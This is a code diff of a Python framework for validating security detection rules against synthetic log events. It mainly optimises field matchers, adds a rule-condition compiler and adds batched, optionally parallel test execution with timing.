@@ -80,14 +80,17 @@ Changelog v3 vs v2:
 
 from __future__ import annotations
 
+import copy
 import csv
 import datetime
 import fnmatch
+import functools
 import hashlib
 import html as _html
 import io
 import json
 import logging
+import pickle
 import re
 import string
 import sys
@@ -95,17 +98,22 @@ import time
 import uuid
 import random
 import argparse
-from collections import Counter
+from concurrent.futures import ProcessPoolExecutor, as_completed
 from dataclasses import dataclass, field
 from enum import Enum
 from pathlib import Path
-from typing import Any, Callable, Iterator, Optional
+from typing import Any, Callable, Final, Iterator, NamedTuple, Optional, TextIO
 
 __version__ = "3.1.0"
 __author__  = "Detection Validator"
 
 logger = logging.getLogger(__name__)
 
+# Module-level alias: datetime.now(_UTC) skips two attribute lookups per call
+# in _random_timestamp(), which runs once per generated event.
+_UTC = datetime.timezone.utc
+_BS  = "\\"  # Windows path separator; f-string expressions cannot hold a backslash
+
 __all__ = [
     # Exceptions
     "ValidationError",
@@ -153,7 +161,7 @@ class EventCategory(Enum):
     EVASION                 = "evasion"          # Attack variant — bypass attempt
 
 
-@dataclass
+@dataclass(slots=True)
 class SyntheticEvent:
     """A single synthetic (or imported) log event for testing."""
     event_id:           str
@@ -165,6 +173,15 @@ class SyntheticEvent:
     notes:              str  = ""
     tags:               list = field(default_factory=list) # Freeform labels
     severity:           str  = ""                          # Expected severity if detected
+    # Read at export time, so tags/category edits after construction
+    # (e.g. appending "imported") still show up in the reports.
+    @property
+    def _is_imported(self) -> bool:
+        return "imported" in (self.tags or ())
+
+    @property
+    def _category_str(self) -> str:
+        return self.category.value
 
     def to_dict(self) -> dict:
         return {
@@ -208,7 +225,14 @@ class SyntheticEvent:
         )
 
 
-@dataclass
+def _event_json_default(obj: Any) -> Any:
+    """json ``default`` hook — lets the encoder serialise events one at a time."""
+    if isinstance(obj, SyntheticEvent):
+        return obj.to_dict()
+    raise TypeError(f"Object of type {type(obj).__name__} is not JSON serializable")
+
+
+@dataclass(slots=True)
 class DetectionResult:
     """Result of running a single log event through the detection engine."""
     event_id:           str
@@ -218,31 +242,52 @@ class DetectionResult:
     execution_time_ms:  float = 0.0   # Wall-clock time for the evaluation
 
 
-@dataclass
+@dataclass(slots=True)
 class TestResult:
     """Combined outcome for one event — event + detection + pass/fail verdict."""
     event:     SyntheticEvent
     detection: DetectionResult
     outcome:   str  = ""    # TP / FP / TN / FN
     passed:    bool = False  # Did reality match expectation?
+    # Index of outcome, set alongside it, for the metric histogram
+    _outcome_idx: int = field(init=False, repr=False, compare=False)  # TP=0 FP=1 TN=2 FN=3
 
     def __post_init__(self):
         exp = self.event.expected_detection
         det = self.detection.matched
         if exp and det:
-            self.outcome, self.passed = "TP", True
+            self.outcome, self.passed, self._outcome_idx = "TP", True, 0
         elif exp and not det:
-            self.outcome, self.passed = "FN", False
+            self.outcome, self.passed, self._outcome_idx = "FN", False, 3
         elif not exp and det:
-            self.outcome, self.passed = "FP", False
+            self.outcome, self.passed, self._outcome_idx = "FP", False, 1
         else:
-            self.outcome, self.passed = "TN", True
+            self.outcome, self.passed, self._outcome_idx = "TN", True, 2
 
 
 # ═══════════════════════════════════════════════════════════════════════════════
 # TELEMETRY GENERATOR  (base class)
 # ═══════════════════════════════════════════════════════════════════════════════
 
+# Pools drawn from by the per-event _random_* helpers.  Built once at import;
+# rng.choice() over a tuple draws the same element as over the old list
+# literals, so seeded output is unchanged.
+_HOST_PREFIXES    = ("WS", "PC", "LT", "SRV", "DC", "APP", "DB", "WEB", "FS", "ADMIN")
+_FIRST_NAMES      = ("john", "jane", "admin", "svc", "mike", "sarah", "deploy",
+                     "backup", "monitor", "build", "david", "emma", "robert", "lisa")
+_LAST_NAMES       = ("smith", "doe", "ops", "account", "johnson", "williams", "brown",
+                     "jones", "davis", "miller", "wilson", "moore", "taylor", "thomas")
+_DOMAINS          = ("CORP", "CONTOSO", "ACME", "INTERNAL", "PROD")
+_INTEGRITY_LEVELS = ("Low", "Medium", "High", "System")
+_HASH_LENGTHS     = {"md5": 32, "sha1": 40, "sha256": 64}
+# External IPs: avoid all reserved/private first octets
+_BLOCKED_FIRST_OCTETS = {10, 127, 169, 172, 192, 224, 225, 226, 227, 228, 229,
+                         230, 231, 232, 233, 234, 235, 236, 237, 238, 239,
+                         240, 241, 242, 243, 244, 245, 246, 247, 248, 249,
+                         250, 251, 252, 253, 254, 255, 0}
+_VALID_FIRST_OCTETS = tuple(i for i in range(1, 224) if i not in _BLOCKED_FIRST_OCTETS)
+
+
 class TelemetryGenerator:
     """
     Base class for generating synthetic log events.
@@ -269,18 +314,13 @@ class TelemetryGenerator:
     # ── Randomisation primitives ─────────────────────────────────────────────
 
     def _random_hostname(self) -> str:
-        prefixes = ["WS", "PC", "LT", "SRV", "DC", "APP", "DB", "WEB", "FS", "ADMIN"]
-        return f"{self.rng.choice(prefixes)}-{self.rng.randint(1000, 9999)}"
+        return f"{self.rng.choice(_HOST_PREFIXES)}-{self.rng.randint(1000, 9999)}"
 
     def _random_username(self) -> str:
-        first = ["john", "jane", "admin", "svc", "mike", "sarah", "deploy",
-                 "backup", "monitor", "build", "david", "emma", "robert", "lisa"]
-        last  = ["smith", "doe", "ops", "account", "johnson", "williams", "brown",
-                 "jones", "davis", "miller", "wilson", "moore", "taylor", "thomas"]
-        return f"{self.rng.choice(first)}.{self.rng.choice(last)}"
+        return f"{self.rng.choice(_FIRST_NAMES)}.{self.rng.choice(_LAST_NAMES)}"
 
     def _random_domain(self) -> str:
-        return self.rng.choice(["CORP", "CONTOSO", "ACME", "INTERNAL", "PROD"])
+        return self.rng.choice(_DOMAINS)
 
     def _random_pid(self) -> int:
         return self.rng.randint(1000, 65535)
@@ -302,7 +342,7 @@ class TelemetryGenerator:
         is an anti-pattern. Now uses datetime.now(timezone.utc).
         FIX v3.1: Replaced deprecated datetime.utcnow() with timezone-aware equivalent.
         """
-        base = datetime.datetime.now(datetime.timezone.utc) - datetime.timedelta(
+        base = datetime.datetime.now(_UTC) - datetime.timedelta(
             seconds=self.rng.randint(0, days_back * 86400)
         )
         return base.strftime("%Y-%m-%dT%H:%M:%S.%f")[:-3] + "Z"
@@ -322,12 +362,7 @@ class TelemetryGenerator:
                     f".{self.rng.randint(1, 254)}"
                     f".{self.rng.randint(1, 254)}")
         # External: avoid all reserved/private first octets
-        _BLOCKED = {10, 127, 169, 172, 192, 224, 225, 226, 227, 228, 229,
-                    230, 231, 232, 233, 234, 235, 236, 237, 238, 239,
-                    240, 241, 242, 243, 244, 245, 246, 247, 248, 249,
-                    250, 251, 252, 253, 254, 255, 0}
-        _VALID_FIRST = [i for i in range(1, 224) if i not in _BLOCKED]
-        first = self.rng.choice(_VALID_FIRST)
+        first = self.rng.choice(_VALID_FIRST_OCTETS)
         return (f"{first}.{self.rng.randint(0, 255)}"
                 f".{self.rng.randint(0, 255)}"
                 f".{self.rng.randint(1, 254)}")
@@ -357,7 +392,7 @@ class TelemetryGenerator:
         ])
 
     def _random_hash(self, algo: str = "sha256") -> str:
-        length = {"md5": 32, "sha1": 40, "sha256": 64}.get(algo, 64)
+        length = _HASH_LENGTHS.get(algo, 64)
         return "".join(self.rng.choices("0123456789abcdef", k=length))
 
     def _random_aws_account(self) -> str:
@@ -381,7 +416,7 @@ class TelemetryGenerator:
             "LogonGuid":         self._random_guid(),
             "LogonId":           hex(self.rng.randint(0x10000, 0xFFFFF)),
             "TerminalSessionId": self.rng.randint(0, 5),
-            "IntegrityLevel":    self.rng.choice(["Low", "Medium", "High", "System"]),
+            "IntegrityLevel":    self.rng.choice(_INTEGRITY_LEVELS),
             "Hashes":            f"SHA256={self._random_hash('sha256')}",
         }
 
@@ -657,9 +692,15 @@ class TelemetryGenerator:
         return events
 
     def export_events(self, events: list[SyntheticEvent], path: str) -> None:
-        """Serialise events to a JSON file for reuse across runs."""
+        """
+        Serialise events to a JSON file for reuse across runs.
+
+        Events go to the encoder as-is and are converted one by one through
+        the ``default`` hook, so only one event's dict copy is alive at a time
+        instead of a full list of them.
+        """
         with open(path, "w", encoding="utf-8") as fh:
-            json.dump([e.to_dict() for e in events], fh, indent=2)
+            json.dump(events, fh, indent=2, default=_event_json_default)
 
     @staticmethod
     def import_events(path: str) -> list[SyntheticEvent]:
@@ -673,8 +714,9 @@ class TelemetryGenerator:
         p = Path(path)
         if not p.exists():
             raise FileNotFoundError(f"Events file not found: {path}")
-        with open(p, encoding="utf-8") as fh:
-            data = json.load(fh)
+        # json.loads() decodes bytes itself (and accepts a UTF-8 BOM), which
+        # skips the TextIOWrapper decode pass of json.load(fh).
+        data = json.loads(p.read_bytes())
         events = []
         for i, row in enumerate(data):
             try:
@@ -690,6 +732,80 @@ class TelemetryGenerator:
 # DETECTION ENGINE  (base class)
 # ═══════════════════════════════════════════════════════════════════════════════
 
+@functools.lru_cache(maxsize=1024)
+def _lc_frozenset(values: tuple) -> frozenset:
+    """Lowercased frozenset of *values*, built once per distinct values tuple."""
+    return frozenset(v.lower() for v in values)
+
+
+# field_any_of() switches from per-needle `in` scans to one alternation regex
+# at this many needles; below it the regex call overhead is not worth it.
+_ANY_OF_REGEX_MIN = 5
+
+
+@functools.lru_cache(maxsize=512)
+def _any_of_regex(needles: tuple, case_insensitive: bool) -> re.Pattern:
+    """
+    Compile literal *needles* into one alternation so a value is scanned once
+    by the C regex engine instead of once per needle.  Needles are lowercased
+    to match a lowercased value, keeping str.lower() semantics exactly.
+    """
+    if case_insensitive:
+        needles = tuple(n.lower() for n in needles)
+    return re.compile("|".join(map(re.escape, needles)))
+
+
+def _needle_scanner(needles: tuple) -> Callable[[str], bool]:
+    """
+    Return ``scan(text) -> bool``: does *text* contain any of *needles*?
+
+    Needles and text are compared as-is (callers lowercase both).  Short
+    lists keep per-needle `in` scans; at _ANY_OF_REGEX_MIN needles and up one
+    precompiled alternation walks the text once in C instead.
+    """
+    if len(needles) >= _ANY_OF_REGEX_MIN:
+        search = _any_of_regex(needles, False).search
+        return lambda text: search(text) is not None
+    return lambda text: any(n in text for n in needles)
+
+
+def _parent_matcher(needles: tuple) -> Callable[[str], bool]:
+    """
+    Like _needle_scanner(), specialised for needles that are all "\\name.exe"
+    path tails: the lowered path's last component is looked up in a frozenset
+    instead of scanning for every needle.  A tail is then matched only as the
+    whole final component (the endswith reading), not mid-path.
+    """
+    if not needles or not all(n[:1] == _BS and _BS not in n[1:] for n in needles):
+        return _needle_scanner(needles)
+    names = frozenset(n[1:] for n in needles)
+
+    def match(path: str) -> bool:
+        _, sep, name = path.rpartition(_BS)
+        return bool(sep) and name in names
+    return match
+
+
+@functools.lru_cache(maxsize=256)
+def _compile_lineage(lineage: tuple, case_insensitive: bool) -> tuple:
+    """Normalise each lineage step to a tuple of suffixes for str.endswith()."""
+    steps = []
+    for step in lineage:
+        aliases = (step,) if isinstance(step, str) else tuple(step)
+        steps.append(tuple(a.lower() for a in aliases) if case_insensitive else aliases)
+    return tuple(steps)
+
+
+def _is_caseless(needle: str) -> bool:
+    """
+    True when *needle* contains no cased characters (ASCII digits/punctuation
+    only).  No code point lowercases to an ASCII non-letter, so such a needle
+    matches val.lower() exactly where it matches val and the lower() copy of
+    the event value can be skipped.
+    """
+    return needle.isascii() and needle.lower() == needle.upper()
+
+
 class DetectionEngine:
     """
     Base class for detection rule logic.
@@ -713,10 +829,15 @@ class DetectionEngine:
         field_wildcard
     Negation shorthand:
         field_not_contains
+    Pre-compiled literals:
+        compile_literal, compile_values, field_contains_lc, field_in_set
     Process-tree helpers:
-        check_process_lineage, check_original_filename
+        check_process_lineage, check_original_filename,
+        compile_lineage, check_process_lineage_compiled
     Nested field access:
         nested_get  (resolves both flat-key and dot-path nested dicts)
+    Rule compilation:
+        compile_condition  (specialised predicate closure for one condition)
     """
 
     def __init__(
@@ -735,6 +856,31 @@ class DetectionEngine:
         """
         raise NotImplementedError("Implement detection logic in subclass")
 
+    def batch_evaluate(self, events: list[dict]) -> list[DetectionResult]:
+        """
+        Evaluate a batch of log events, returning one result per event in order.
+
+        TestRunner.run() hands events over a batch at a time.  The default maps
+        evaluate() over the batch; engines with a cheaper whole-batch path
+        (e.g. a compiled rule closure) override it.
+        """
+        return list(map(self.evaluate, events))
+
+    # Engines that specialise their rule into a closure store it as self._rule
+    # (built by a _compile_rule() method).  Closures cannot be pickled, so the
+    # closure is dropped on pickling and rebuilt on load — this keeps such
+    # engines usable with TestRunner.run(workers > 1).
+
+    def __getstate__(self) -> dict:
+        state = self.__dict__.copy()
+        state.pop("_rule", None)
+        return state
+
+    def __setstate__(self, state: dict) -> None:
+        self.__dict__.update(state)
+        if hasattr(self, "_compile_rule"):
+            self._rule = self._compile_rule()
+
     # ── Nested field accessor ────────────────────────────────────────────────
 
     @staticmethod
@@ -775,15 +921,23 @@ class DetectionEngine:
     def field_equals(
         event: dict, field: str, value: str, case_insensitive: bool = True
     ) -> bool:
+        v   = value if isinstance(value, str) else str(value)
         val = DetectionEngine.nested_get(event, field)
-        return val.lower() == str(value).lower() if case_insensitive else val == str(value)
+        # Length mismatch rejects most misses before lower() allocates; only
+        # safe for ASCII, since some code points change length when lowered.
+        if len(val) != len(v) and (not case_insensitive or (val.isascii() and v.isascii())):
+            return False
+        return val.lower() == v.lower() if case_insensitive else val == v
 
     @staticmethod
     def field_contains(
         event: dict, field: str, value: str, case_insensitive: bool = True
     ) -> bool:
+        v   = value if isinstance(value, str) else str(value)
         val = DetectionEngine.nested_get(event, field)
-        return (str(value).lower() in val.lower()) if case_insensitive else (str(value) in val)
+        if not case_insensitive or _is_caseless(v):
+            return v in val
+        return v.lower() in val.lower()
 
     @staticmethod
     def field_not_contains(
@@ -796,15 +950,21 @@ class DetectionEngine:
     def field_startswith(
         event: dict, field: str, value: str, case_insensitive: bool = True
     ) -> bool:
+        v   = value if isinstance(value, str) else str(value)
         val = DetectionEngine.nested_get(event, field)
-        return val.lower().startswith(str(value).lower()) if case_insensitive else val.startswith(str(value))
+        if len(val) < len(v) and (not case_insensitive or (val.isascii() and v.isascii())):
+            return False
+        return val.lower().startswith(v.lower()) if case_insensitive else val.startswith(v)
 
     @staticmethod
     def field_endswith(
         event: dict, field: str, value: str, case_insensitive: bool = True
     ) -> bool:
+        v   = value if isinstance(value, str) else str(value)
         val = DetectionEngine.nested_get(event, field)
-        return val.lower().endswith(str(value).lower()) if case_insensitive else val.endswith(str(value))
+        if len(val) < len(v) and (not case_insensitive or (val.isascii() and v.isascii())):
+            return False
+        return val.lower().endswith(v.lower()) if case_insensitive else val.endswith(v)
 
     @staticmethod
     def field_regex(
@@ -848,8 +1008,9 @@ class DetectionEngine:
     ) -> bool:
         """True if the field value exactly matches any item in *values*."""
         val = DetectionEngine.nested_get(event, field)
-        return (val.lower() in [str(v).lower() for v in values]
-                if case_insensitive else val in [str(v) for v in values])
+        if case_insensitive:
+            return val.lower() in _lc_frozenset(tuple(map(str, values)))
+        return val in map(str, values)
 
     @staticmethod
     def field_not_in(
@@ -861,6 +1022,38 @@ class DetectionEngine:
         """
         return not DetectionEngine.field_in(event, field, values, case_insensitive)
 
+    # ── Pre-compiled rule literals ───────────────────────────────────────────
+    #
+    # A rule's literals are constant across every event it is evaluated
+    # against.  Normalise them once (typically in a subclass __init__) and use
+    # the *_lc / *_set matchers so evaluate() only lowercases the event side.
+
+    @staticmethod
+    def compile_literal(value: str, case_insensitive: bool = True) -> str:
+        """Return *value* normalised for field_contains_lc()."""
+        v = value if isinstance(value, str) else str(value)
+        return v.lower() if case_insensitive else v
+
+    @staticmethod
+    def compile_values(values: list, case_insensitive: bool = True) -> frozenset:
+        """Return *values* normalised into a frozenset for field_in_set()."""
+        if case_insensitive:
+            return _lc_frozenset(tuple(map(str, values)))
+        return frozenset(map(str, values))
+
+    @staticmethod
+    def field_contains_lc(event: dict, field: str, lc_value: str) -> bool:
+        """Case-insensitive contains where *lc_value* is already lowercased."""
+        return lc_value in DetectionEngine.nested_get(event, field).lower()
+
+    @staticmethod
+    def field_in_set(
+        event: dict, field: str, value_set: frozenset, case_insensitive: bool = True
+    ) -> bool:
+        """field_in() against a set built by compile_values() — O(1) per event."""
+        val = DetectionEngine.nested_get(event, field)
+        return (val.lower() if case_insensitive else val) in value_set
+
     @staticmethod
     def field_exists(event: dict, field: str) -> bool:
         """True if the field is present, non-null, and non-empty."""
@@ -871,6 +1064,15 @@ class DetectionEngine:
 
     @staticmethod
     def _num(event: dict, field: str) -> Optional[float]:
+        # Fast path: flat key already holding a native int/float (ports, byte
+        # counts, PIDs) — skip the str() round-trip and the try/except parse.
+        v = event[field] if field in event else None
+        t = type(v)
+        if t is int or t is float:
+            try:
+                return float(v)
+            except OverflowError:
+                pass  # int beyond float range — the str path below maps it to ±inf
         try:
             return float(DetectionEngine.nested_get(event, field, ""))
         except (ValueError, TypeError):
@@ -922,22 +1124,27 @@ class DetectionEngine:
         event: dict, field: str, values: list, case_insensitive: bool = True
     ) -> bool:
         """True if the field value *contains* ANY of the given substrings."""
-        val = DetectionEngine.nested_get(event, field)
+        val     = DetectionEngine.nested_get(event, field)
+        needles = tuple(map(str, values))
         if case_insensitive:
-            val_l = val.lower()
-            return any(str(v).lower() in val_l for v in values)
-        return any(str(v) in val for v in values)
+            val = val.lower()
+        if len(needles) >= _ANY_OF_REGEX_MIN:
+            return _any_of_regex(needles, case_insensitive).search(val) is not None
+        if case_insensitive:
+            return any(n in val for n in _lc_frozenset(needles))
+        return any(n in val for n in needles)
 
     @staticmethod
     def field_all_of(
         event: dict, field: str, values: list, case_insensitive: bool = True
     ) -> bool:
         """True if the field value contains ALL of the given substrings."""
-        val = DetectionEngine.nested_get(event, field)
+        val     = DetectionEngine.nested_get(event, field)
+        needles = tuple(map(str, values))
         if case_insensitive:
             val_l = val.lower()
-            return all(str(v).lower() in val_l for v in values)
-        return all(str(v) in val for v in values)
+            return all(n in val_l for n in _lc_frozenset(needles))
+        return all(n in val for n in needles)
 
     # ── String analysis ──────────────────────────────────────────────────────
 
@@ -974,22 +1181,52 @@ class DetectionEngine:
             lineage: Executable names from child → ancestor.
                      e.g. ['rundll32.exe', 'powershell.exe'] means
                      rundll32 should be a child of powershell.
+                     A step may also be a tuple of aliases, e.g.
+                     [('rundll32.exe', 'rundll32'), 'powershell.exe'].
 
         Returns:
             True if the lineage matches (empty lineage → always True).
         """
         if not lineage:
             return True
-        image = DetectionEngine.nested_get(event, image_field)
-        child = image.lower() if case_insensitive else image
-        needle0 = lineage[0].lower() if case_insensitive else lineage[0]
-        if not child.endswith(needle0):
+        return DetectionEngine.check_process_lineage_compiled(
+            event,
+            DetectionEngine.compile_lineage(lineage, case_insensitive),
+            image_field, parent_field, case_insensitive,
+        )
+
+    @staticmethod
+    def compile_lineage(lineage: list, case_insensitive: bool = True) -> tuple:
+        """
+        Pre-normalise a lineage for check_process_lineage_compiled().
+
+        Each step becomes a tuple of (lowercased) suffixes so the per-event
+        check is a single str.endswith(tuple) call.  Cached per lineage.
+        """
+        key = tuple(s if isinstance(s, str) else tuple(s) for s in lineage)
+        return _compile_lineage(key, case_insensitive)
+
+    @staticmethod
+    def check_process_lineage_compiled(
+        event: dict,
+        lc_lineage: tuple,
+        image_field:  str  = "Image",
+        parent_field: str  = "ParentImage",
+        case_insensitive: bool = True,
+    ) -> bool:
+        """check_process_lineage() for a lineage built by compile_lineage()."""
+        if not lc_lineage:
+            return True
+        child = DetectionEngine.nested_get(event, image_field)
+        if case_insensitive:
+            child = child.lower()
+        if not child.endswith(lc_lineage[0]):
             return False
-        if len(lineage) >= 2:
+        if len(lc_lineage) >= 2:
             parent = DetectionEngine.nested_get(event, parent_field)
-            parent = parent.lower() if case_insensitive else parent
-            needle1 = lineage[1].lower() if case_insensitive else lineage[1]
-            if not parent.endswith(needle1):
+            if case_insensitive:
+                parent = parent.lower()
+            if not parent.endswith(lc_lineage[1]):
                 return False
         return True
 
@@ -1005,6 +1242,215 @@ class DetectionEngine:
             event, "OriginalFileName", expected_name, case_insensitive
         )
 
+    # ── Condition compiler ───────────────────────────────────────────────────
+
+    @staticmethod
+    def compile_condition(
+        kind: str, field: str, value: Any, case_insensitive: bool = True
+    ) -> Callable[[dict], bool]:
+        """
+        Compile one rule condition into a specialised predicate ``p(event)``.
+
+        The field name and normalised literal are captured in a closure, so
+        evaluating the condition per event skips argument passing, default
+        handling, re-lowercasing the literal and dispatching on *kind*.
+        Predicates return exactly what the matching field_* method would.
+
+        Kinds:
+            equals, contains, not_contains, startswith, endswith, regex,
+            wildcard, in, not_in, any_of, all_of, exists,
+            gt, gte, lt, lte, between  (value = (low, high), inclusive)
+
+        Raises:
+            ValidationError: if *kind* is unknown.
+        """
+        get = DetectionEngine.nested_get
+        num = DetectionEngine._num
+        ci  = case_insensitive
+
+        if kind in ("equals", "contains", "not_contains", "startswith", "endswith"):
+            v = value if isinstance(value, str) else str(value)
+            if ci:
+                lc = v.lower()
+                if kind == "equals":
+                    if lc.isascii():
+                        # lower() never shortens a string and only lengthens
+                        # it with non-ASCII output, so against an ASCII literal
+                        # a length mismatch rejects before lower() allocates.
+                        n = len(lc)
+                        def equals(event: dict) -> bool:
+                            val = get(event, field)
+                            return len(val) == n and val.lower() == lc
+                        return equals
+                    return lambda event: get(event, field).lower() == lc
+                if kind == "contains":
+                    if _is_caseless(lc):
+                        return lambda event: lc in get(event, field)
+                    return lambda event: lc in get(event, field).lower()
+                if kind == "not_contains":
+                    if _is_caseless(lc):
+                        return lambda event: lc not in get(event, field)
+                    return lambda event: lc not in get(event, field).lower()
+                if kind == "startswith":
+                    return lambda event: get(event, field).lower().startswith(lc)
+                return lambda event: get(event, field).lower().endswith(lc)
+            if kind == "equals":
+                return lambda event: get(event, field) == v
+            if kind == "contains":
+                return lambda event: v in get(event, field)
+            if kind == "not_contains":
+                return lambda event: v not in get(event, field)
+            if kind == "startswith":
+                return lambda event: get(event, field).startswith(v)
+            return lambda event: get(event, field).endswith(v)
+
+        if kind == "regex":
+            try:
+                rx = re.compile(value, re.IGNORECASE if ci else 0)
+            except re.error as exc:
+                logger.warning("compile_condition: invalid pattern %r on field %r — %s",
+                               value, field, exc)
+                return lambda event: False
+            search = rx.search
+            return lambda event: search(get(event, field)) is not None
+
+        if kind == "wildcard":
+            pat = value.lower() if ci else value
+            match = re.compile(fnmatch.translate(pat)).match
+            if ci:
+                return lambda event: match(get(event, field).lower()) is not None
+            return lambda event: match(get(event, field)) is not None
+
+        if kind in ("in", "not_in"):
+            value_set = DetectionEngine.compile_values(value, ci)
+            if ci:
+                if kind == "in":
+                    return lambda event: get(event, field).lower() in value_set
+                return lambda event: get(event, field).lower() not in value_set
+            if kind == "in":
+                return lambda event: get(event, field) in value_set
+            return lambda event: get(event, field) not in value_set
+
+        if kind in ("any_of", "all_of"):
+            needles = tuple(map(str, value))
+            if ci:
+                needles = tuple(_lc_frozenset(needles))
+            if kind == "any_of" and len(needles) >= _ANY_OF_REGEX_MIN:
+                search = _any_of_regex(needles, False).search
+                if ci:
+                    return lambda event: search(get(event, field).lower()) is not None
+                return lambda event: search(get(event, field)) is not None
+            test = any if kind == "any_of" else all
+            if ci:
+                def pred(event: dict) -> bool:
+                    val = get(event, field).lower()
+                    return test(n in val for n in needles)
+            else:
+                def pred(event: dict) -> bool:
+                    val = get(event, field)
+                    return test(n in val for n in needles)
+            return pred
+
+        if kind == "exists":
+            return lambda event: get(event, field) != ""
+
+        if kind in ("gt", "gte", "lt", "lte"):
+            t = float(value)
+            if kind == "gt":
+                return lambda event: (n := num(event, field)) is not None and n > t
+            if kind == "gte":
+                return lambda event: (n := num(event, field)) is not None and n >= t
+            if kind == "lt":
+                return lambda event: (n := num(event, field)) is not None and n < t
+            return lambda event: (n := num(event, field)) is not None and n <= t
+
+        if kind == "between":
+            low, high = float(value[0]), float(value[1])
+            return lambda event: (n := num(event, field)) is not None and low <= n <= high
+
+        raise ValidationError(f"Unknown condition kind '{kind}' for field '{field}'")
+
+
+# iter_csv() hands event rows to csv.writer.writerows() this many at a time
+_CSV_CHUNK = 1000
+
+
+class _CsvEcho:
+    """File-like sink for csv.writer whose write() hands the line back."""
+
+    def write(self, line: str) -> str:
+        return line
+
+
+# TestRunner.run(workers > 1) stays sequential below this many events — pool
+# start-up and pickling cost more than the evaluation itself on small sets.
+_PARALLEL_MIN_EVENTS = 2000
+
+# Sequential TestRunner.run() reads the clock once per this many events rather
+# than twice per event; each event is stamped with its batch's mean time.
+_TIMING_BATCH = 1000
+
+
+# HTML report fragments that depend only on a bool or enum member, indexed
+# directly in the per-row loops instead of re-deciding them for every result.
+_ROW_CLASSES = (("fail", "badge-fail"), ("pass", "badge-pass"))  # [passed]
+_EV_MARKS    = (("ev-missed", "✗"), ("ev-caught", "✓"))          # [passed]
+_REAL_BADGE  = '<span class="real-badge">REAL</span>'
+_CAT_HTML    = {cat: _html.escape(cat.value) for cat in EventCategory}
+
+# Report palette — grade letter, category value and recommendation priority
+_GRADE_COLORS: Final = {"A": "#10b981", "B": "#06b6d4", "C": "#f59e0b", "D": "#f97316", "F": "#ef4444"}
+_CAT_COLORS: Final = {
+    "true_positive": "#10b981", "true_negative": "#06b6d4",
+    "fp_candidate":  "#f59e0b", "evasion":       "#8b5cf6",
+}
+_PRI_COLORS: Final = {
+    "critical": "#ef4444", "high": "#f97316",
+    "medium":   "#f59e0b", "low":  "#10b981", "info": "#06b6d4",
+}
+
+
+_SNIPPET_ENCODER = json.JSONEncoder(indent=2)
+
+
+def _truncated_json(obj: Any, limit: int = 700) -> str:
+    """
+    Return json.dumps(obj, indent=2)[:limit] without serialising the rest.
+
+    iterencode() yields the document in small chunks, so encoding stops as
+    soon as *limit* characters exist — large log_data dicts are no longer
+    pretty-printed in full just to be sliced.
+    """
+    parts: list[str] = []
+    size = 0
+    for chunk in _SNIPPET_ENCODER.iterencode(obj):
+        parts.append(chunk)
+        size += len(chunk)
+        if size >= limit:
+            break
+    return "".join(parts)[:limit]
+
+
+def _evaluate_chunk(
+    engine_blob: bytes,
+    log_datas: list[dict],
+    collect_timings: bool = True,
+) -> tuple[list[DetectionResult], float]:
+    """
+    Process-pool worker: evaluate a contiguous slice of events.
+
+    *engine_blob* is the engine pickled once by TestRunner.run().  Runs the
+    slice through engine.batch_evaluate() under one timer pair, as the
+    sequential path does per batch, and returns the detections in input
+    order with the slice's mean ms per event (0.0 without timings).
+    """
+    engine     = pickle.loads(engine_blob)
+    t0         = time.perf_counter() if collect_timings else 0.0
+    detections = engine.batch_evaluate(log_datas)
+    elapsed    = ((time.perf_counter() - t0) * 1000 / len(log_datas)
+                  if collect_timings else 0.0)
+    return detections, elapsed
+
 
 # ═══════════════════════════════════════════════════════════════════════════════
 # GRADING CONFIG
@@ -1086,36 +1532,126 @@ class TestRunner:
         self.events  = events
         self.grading = grading or GradingConfig()
         self.results: list[TestResult] = []
+        # (results list, its length, grading key, value) memos for _metrics and
+        # failures; the list itself is held so its id() cannot be reused.
+        self._metrics_cache:  Optional[tuple] = None
+        self._failures_cache: Optional[tuple] = None
 
     # ── Core execution ───────────────────────────────────────────────────────
 
     def run(
         self,
         progress_callback: Optional[Callable[[int, int], None]] = None,
+        workers: int = 1,
+        collect_timings: bool = True,
     ) -> list[TestResult]:
         """
         Run every event through the detection engine.
 
         Args:
             progress_callback: Optional callable(current, total) for UI progress
-                               bars.  Called after each event is evaluated.
+                               bars.  Called for each event once its timing
+                               batch completes (once per completed chunk
+                               when workers > 1).
                                NEW in v3.
+            workers:           Number of worker processes.  > 1 evaluates
+                               events in a ProcessPoolExecutor; falls back to
+                               the sequential loop for fewer than
+                               _PARALLEL_MIN_EVENTS events or when the engine
+                               cannot be pickled (e.g. it holds lambdas).
+                               Opt-in only: shipping log_data to the workers
+                               and results back costs about as much as
+                               evaluating the built-in rules in-process, so
+                               it pays off only for expensive engines on
+                               several cores.
+            collect_timings:   When False, skip timing and leave every
+                               execution_time_ms at 0.0.  When True, events
+                               are timed in batches of _TIMING_BATCH (per
+                               worker chunk when workers > 1) and each gets
+                               its batch's mean time.
 
         Returns:
             List of TestResult objects.
         """
-        self.results = []
+        self._reset()
         total = len(self.events)
-        for i, event in enumerate(self.events):
-            t0        = time.perf_counter()
-            detection = self.engine.evaluate(event.log_data)
-            elapsed   = (time.perf_counter() - t0) * 1000
+        if workers > 1 and total >= _PARALLEL_MIN_EVENTS:
+            # Pickled once: the bytes double as the picklability check and
+            # are what every chunk ships, instead of re-pickling the engine.
+            try:
+                engine_blob = pickle.dumps(self.engine)
+            except Exception as exc:
+                logger.warning("run: engine %s is not picklable (%s) — running sequentially",
+                               type(self.engine).__name__, exc)
+            else:
+                return self._run_parallel(engine_blob, workers, progress_callback,
+                                          collect_timings)
+        for lo in range(0, total, _TIMING_BATCH):
+            batch = self.events[lo:lo + _TIMING_BATCH]
+            self._run_batch(batch, [e.log_data for e in batch], collect_timings)
+            if progress_callback:
+                for i in range(lo + 1, lo + len(batch) + 1):
+                    progress_callback(i, total)
+        return self.results
+
+    def _reset(self) -> None:
+        self.results = []
+        # Drop memos computed from the previous results
+        self._metrics_cache  = None
+        self._failures_cache = None
+
+    def _run_batch(
+        self,
+        batch: list[SyntheticEvent],
+        log_datas: list[dict],
+        collect_timings: bool = True,
+    ) -> None:
+        """Evaluate one batch (*log_datas* = its events' log_data) and append results."""
+        t0         = time.perf_counter() if collect_timings else 0.0
+        detections = self.engine.batch_evaluate(log_datas)
+        # One timer pair per batch; every event gets the batch mean, which
+        # is all avg_execution_time_ms needs.
+        elapsed = (round((time.perf_counter() - t0) * 1000 / len(batch), 3)
+                   if collect_timings else 0.0)
+        for event, detection in zip(batch, detections):
             # engine.evaluate may not set event_id / execution_time; fill them
             detection.event_id          = event.event_id
-            detection.execution_time_ms = round(elapsed, 3)
+            detection.execution_time_ms = elapsed
